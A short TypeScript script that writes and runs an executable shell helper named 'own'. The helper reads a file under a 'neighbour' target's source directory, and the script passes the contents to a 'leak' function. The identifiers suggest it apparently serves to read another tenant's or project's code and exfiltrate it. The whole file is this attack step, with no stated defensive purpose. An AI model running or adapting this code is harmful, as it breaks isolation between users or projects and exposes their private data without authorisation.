import { chmodSync, writeFileSync } from 'node:fs';
import { targets } from './targets.ts';
import { leak, shell } from './tools.ts';

writeFileSync('own', '#!/bin/sh\ncat "$1"\n');
chmodSync('own', 0o755);
leak(shell(`./own ${targets.neighbour}/src/main.ts`));
